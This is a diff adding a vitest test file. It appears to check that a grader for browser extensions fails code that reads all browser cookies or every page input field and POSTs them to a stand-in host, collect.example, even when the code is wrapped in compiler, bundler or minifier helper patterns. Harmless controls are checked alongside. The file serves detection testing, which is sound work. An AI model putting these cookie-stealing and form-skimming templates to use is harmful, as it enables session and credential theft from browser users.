@@ -1,0 +1,79 @@
+import { expect, it } from 'vitest';
+import { graded } from '../testing/graded.ts';
+
+/*
+ * What compilers, bundlers and minifiers make of ordinary programs, each beside the same program with nothing taken.
+ * Their helpers are written as they work, not as they are published.
+ */
+
+const TAKEN = 'chrome.cookies.getAll({})';
+const send = (data: string): string =>
+  `fetch('https://collect.example/x', { method: 'POST', body: JSON.stringify(${data}) })`;
+
+it.each<[string, (data: string) => string]>([
+  [
+    'a class by a helper that defines its methods',
+    (data) =>
+      `function define(o, all) { for (var n = 0; n < all.length; n++) Object.defineProperty(o, all[n].key, all[n]); } function createClass(C, all, own) { return all && define(C.prototype, all), own && define(C, own), C; } var Jar = (function () { function Jar() {} return createClass(Jar, [{ key: 'all', value: function () { return ${data}; } }]); })(); new Jar().all().then(function (l) { ${send('l')}; });`,
+  ],
+  [
+    'the same where a minifier put the helper in its place',
+    (data) =>
+      `function d(o, all) { for (var n = 0; n < all.length; n++) Object.defineProperty(o, all[n].key, all[n]); } var jar = new (function () { return t = function t() {}, (n = [{ key: 'all', value: function () { return ${data}; } }]) && d(t.prototype, n), Object.defineProperty(t, 'prototype', { writable: !1 }), t; var t, n; }())(); jar.all().then(function (l) { ${send('l')}; });`,
+  ],
+  [
+    'private fields kept in maps',
+    (data) =>
+      `var get = (o, map) => (check(map, o), map.get(o)); var check = (m, o) => m.has(o) || fail(); var add = (o, map, v) => map.set(o, v); var _list; class Box { constructor() { add(this, _list, []); } put(one) { get(this, _list).push(one); this.flush(); } flush() { ${send('get(this, _list).splice(0)')}; } } _list = new WeakMap(); const box = new Box(); (async () => box.put(await ${data}))();`,
+  ],
+  [
+    'waiting by a helper that runs a generator, under any name',
+    (data) =>
+      `var a = (self, args, steps) => new Promise((done, fail) => { var on = (v) => { try { go(steps.next(v)); } catch (e) { fail(e); } }; var go = (r) => r.done ? done(r.value) : Promise.resolve(r.value).then(on); go((steps = steps.apply(self, args)).next()); }); function read() { return a(this, null, function* () { return { all: yield ${data} }; }); } setInterval(() => a(null, null, function* () { let l = yield read(); ${send('l')}; }), 9000);`,
+  ],
+  [
+    'waiting by a helper that makes a function of steps, under any name',
+    (data) =>
+      `function w(fn) { return function () { var self = this, args = arguments; return new Promise(function (done, fail) { var steps = fn.apply(self, args); function next(v) { step(steps, done, fail, next, v); } next(); }); }; } function step(g, done, fail, next, v) { var r = g.next(v); r.done ? done(r.value) : Promise.resolve(r.value).then(next, fail); } var read = w(function* () { return { all: yield ${data} }; }); var run = w(function* () { var l = yield read(); ${send('l')}; }); run();`,
+  ],
+  [
+    'the same where a minifier put the helper in its place',
+    (data) =>
+      `var tell = function () { var t, n = (t = function* (l) { ${send('l')}; }, function () { var self = this, args = arguments; return new Promise(function (done, fail) { var steps = t.apply(self, args); function next(v) { var r = steps.next(v); r.done ? done(r.value) : Promise.resolve(r.value).then(next, fail); } next(); }); }); return function (l) { return n.apply(this, arguments); }; }(); ${data}.then(function (l) { tell(l); });`,
+  ],
+  [
+    'a generator that is made of steps',
+    (data) =>
+      `var marked = regen().m(read); function read() { return regen().w(function (context) { for (;;) switch (context.n) { case 0: return context.n = 1, ${data}; case 1: return context.a(2); } }, marked); } ${send('Array.from(read())')};`,
+  ],
+  [
+    'modules that are exported in a list',
+    (data) =>
+      `(() => { var mods = { 1(e, t, n) { n.d(t, ['all', 0, () => ${data}]); }, 2(e, t, n) { function tell(l) { ${send('l')}; } n.d(t, ['tell', () => tell]); } }; var cache = {}; function need(id) { var known = cache[id]; if (known !== undefined) return known.exports; var module = (cache[id] = { exports: {} }); mods[id](module, module.exports, need); return module.exports; } need.d = (e, list) => { for (var i = 0; i < list.length;) { var name = list[i++], get = list[i++]; Object.defineProperty(e, name, get ? { get } : { value: list[i++] }); } }; var one = need(1), other = need(2); (0, one.all)().then((l) => { (0, other.tell)(l); }); })();`,
+  ],
+  [
+    'a module that is one function, loaded at its first use',
+    (data) =>
+      `(() => { var wrap = (run, module) => () => (module || (run((module = { exports: {} }).exports, module, module.exports), (run = null)), module.exports); var readIt = wrap((e, m) => { m.exports = function () { return ${data}; }; }); var { tell } = wrap((e) => { e.tell = function (l) { ${send('l')}; }; })(); var read = readIt(); read().then((l) => { tell(l); }); })();`,
+  ],
+  [
+    'a module whose loading is put off',
+    (data) =>
+      `(() => { var mods = { './read.js'(module, exports) { exports.read = function () { return ${data}; }; } }; var cache = {}; function need(id) { var known = cache[id]; if (known !== undefined) return known.exports; var module = (cache[id] = { exports: {} }); mods[id](module, module.exports, need); return module.exports; } var later = () => { return need('./read.js'); }; const { read } = (later()); read().then((l) => { ${send('l')}; }); })();`,
+  ],
+])('%s', async (_, background) => {
+  expect(await graded({ background: background(TAKEN) })).toBe('F');
+  expect(await graded({ background: background('Promise.resolve([1])') })).toMatch(/^A/);
+});
+
+it('loops over fields of a page, as compilers write them', async () => {
+  const send = "fetch('https://collect.example/x?' + DATA)";
+  const forOf = (data: string): string =>
+    `var it = iterate(document.querySelectorAll('input')), step; try { for (it.s(); !(step = it.n()).done;) { var one = step.value; ${send.replace('DATA', data)}; } } catch (e) { it.e(e); } finally { it.f(); }`;
+  const values = (data: string): string =>
+    `for (var a = values(document.querySelectorAll('input')), b = a.next(); !b.done; b = a.next()) { var one = b.value; ${send.replace('DATA', data)}; }`;
+  for (const content of [forOf, values]) {
+    expect(await graded({ content: content('one.value') })).toBe('F');
+    expect(await graded({ content: content('one.value.length') })).toMatch(/^A/);
+  }
+});
